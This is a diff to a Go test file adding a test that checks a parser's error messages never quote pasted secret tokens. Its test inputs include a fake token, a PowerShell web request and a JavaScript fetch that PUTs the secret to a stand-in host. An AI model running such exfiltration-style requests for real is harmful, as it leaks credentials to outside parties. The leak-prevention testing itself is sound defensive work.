@@ -293,3 +293,27 @@ func FuzzParse(f *testing.F) {
 		}
 	})
 }
+
+// TestErrorsDoNotEchoData: a mistaken paste may be a token; errors name
+// what is wrong without quoting pasted data.
+func TestErrorsDoNotEchoData(t *testing.T) {
+	t.Parallel()
+	const secret = "eyJhbGciOiJIUzI1NiJ9.s3cr3t"
+	for _, in := range []string{
+		secret,
+		"Bearer " + secret,
+		`"` + secret + `"` + "\nInvoke-WebRequest -Uri \"https://a.example/\"",
+		`fetch("https://a.example/", {method: "PUT", body: "a" + "` + secret + `" + x, headers: {"Content-Type": "` + secret + `" + y}})`,
+	} {
+		r, err := Parse(in)
+		msg := ""
+		if err != nil {
+			msg = err.Error()
+		} else {
+			msg = strings.Join(r.Notes, "\n")
+		}
+		if strings.Contains(msg, "s3cr3t") {
+			t.Errorf("Parse(%q) echoes the data: %s", in, msg)
+		}
+	}
+}
